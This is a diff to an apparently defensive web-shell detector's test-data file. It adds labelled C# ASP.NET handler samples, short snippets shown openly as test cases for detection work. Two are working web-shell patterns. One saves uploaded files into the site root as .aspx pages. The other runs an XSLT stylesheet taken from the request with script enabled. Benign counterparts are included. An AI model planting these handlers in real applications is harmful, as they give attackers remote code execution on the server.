@@ -546,6 +546,17 @@ SHELLS: list[tuple[str, str, str, set[str], str]] = [
         {"upload-beside-page"},
         "C#",
     ),
+    (
+        "cs-upload-root-client-name-given-a-page-extension",  # the fixed extension is itself a page's
+        ".ashx",
+        '<%@ WebHandler Language="C#" Class="H" %>\nusing System.IO; using System.Web;\n'
+        "public class H : IHttpHandler {\n  public bool IsReusable { get { return false; } }\n"
+        "  public void ProcessRequest(HttpContext ctx) {\n    HttpPostedFile f = ctx.Request.Files[0];\n"
+        '    f.SaveAs(ctx.Server.MapPath("~/") + Path.GetFileNameWithoutExtension(f.FileName) + ".aspx");\n'
+        "  }\n}",
+        {"upload-to-app-root"},
+        "C#",
+    ),
     # --- batch raw9 (helper X3) and X4's raw10: behaviours missed on first sight
     (
         "cs-upload-into-application-root",  # the posted file kept under its own name in the site root
@@ -588,6 +599,18 @@ SHELLS: list[tuple[str, str, str, set[str], str]] = [
         "  var settings = new System.Xml.Xsl.XsltSettings(false, true);\n"
         "  var t = new System.Xml.Xsl.XslCompiledTransform();\n"
         "  t.Load(sheet, settings, null);\n}\n</script>",
+        {"xslt-script"},
+        "C#",
+    ),
+    (
+        "cs-xslt-stylesheet-from-request-string-with-script",  # the stylesheet itself read from the request
+        ".ashx",
+        '<%@ WebHandler Language="C#" Class="H" %>\nusing System.IO; using System.Web; using System.Xml;\n'
+        "using System.Xml.Xsl;\npublic class H : IHttpHandler {\n  public bool IsReusable { get { return false; } }\n"
+        "  public void ProcessRequest(HttpContext ctx) {\n    var x = new XslCompiledTransform();\n"
+        '    x.Load(XmlReader.Create(new StringReader(ctx.Request.Form["s"])), XsltSettings.TrustedXslt, null);\n'
+        '    x.Transform(XmlReader.Create(new StringReader("<a/>")), null, ctx.Response.Output);\n'
+        "  }\n}",
         {"xslt-script"},
         "C#",
     ),
@@ -996,6 +1019,25 @@ BENIGN: list[tuple[str, str, str]] = [
         '<%@ Page Language="C#" %>\n<%\n  var settings = new System.Xml.Xsl.XsltSettings(true, true);\n'
         "  var t = new System.Xml.Xsl.XslCompiledTransform();\n"
         '  t.Load(Server.MapPath("~/xml/report.xslt"), settings, new System.Xml.XmlUrlResolver());\n%>',
+    ),
+    (
+        "upload-root-client-name-fixed-text-extension",  # IL3 02:15: the client's name can no longer carry .aspx
+        ".ashx",
+        '<%@ WebHandler Language="C#" Class="H" %>\nusing System.IO; using System.Web;\n'
+        "public class H : IHttpHandler {\n  public bool IsReusable { get { return false; } }\n"
+        "  public void ProcessRequest(HttpContext ctx) {\n    HttpPostedFile f = ctx.Request.Files[0];\n"
+        '    f.SaveAs(ctx.Server.MapPath("~/") + Path.GetFileNameWithoutExtension(f.FileName) + ".txt");\n'
+        "  }\n}",
+    ),
+    (
+        "xslt-own-stylesheet-with-script-input-from-request",  # IL3 02:15: only the input XML is the request's
+        ".ashx",
+        '<%@ WebHandler Language="C#" Class="H" %>\nusing System.IO; using System.Web; using System.Xml;\n'
+        "using System.Xml.Xsl;\npublic class H : IHttpHandler {\n  public bool IsReusable { get { return false; } }\n"
+        "  public void ProcessRequest(HttpContext ctx) {\n    var x = new XslCompiledTransform();\n"
+        '    x.Load(ctx.Server.MapPath("~/App_Data/report.xslt"), XsltSettings.TrustedXslt, null);\n'
+        '    x.Transform(XmlReader.Create(new StringReader(ctx.Request.Form["data"])), null, ctx.Response.Output);\n'
+        "  }\n}",
     ),
     (
         "fixed-connection-string",  # the application's own connection string, named in the code
